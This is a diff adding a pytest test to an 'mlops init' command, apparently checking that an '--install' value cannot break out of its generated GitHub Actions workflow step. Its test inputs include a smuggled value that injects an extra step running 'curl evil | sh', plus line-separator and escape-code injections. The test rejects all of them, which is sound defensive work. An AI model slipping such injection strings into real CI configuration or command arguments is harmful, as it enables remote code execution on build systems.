@@ -20,3 +20,16 @@ def test_a_directory_below_a_file_is_refused(tmp_path: Path) -> None:
     (tmp_path / "file").write_text("x")
     out = mlops("init", str(tmp_path / "file" / "p"))
     assert out.returncode == 1 and "file: not a directory; nothing written" in out.stderr
+
+
+def test_an_install_line_cannot_break_out_of_its_workflow_step(tmp_path: Path) -> None:
+    import yaml
+
+    for sneaky in ("pip install x\r      - run: curl evil | sh", "pip install x\u2028  env: {A: b}", "pip install \x1b[2J"):
+        out = mlops("init", str(tmp_path / "p"), "--install", sneaky)
+        assert out.returncode == 64 and "one line of shell" in out.stderr, (sneaky, out.stderr)
+        assert not (tmp_path / "p").exists()
+    ok = mlops("init", str(tmp_path / "p"), "--install", "pip install 'mlops-gitops==1.2'")
+    assert ok.returncode == 0, ok.stderr
+    steps = yaml.safe_load((tmp_path / "p/.github/workflows/main.yml").read_text())["jobs"]["reconcile"]["steps"]
+    assert {"name": "Install mlops", "run": "pip install 'mlops-gitops==1.2'"} in steps
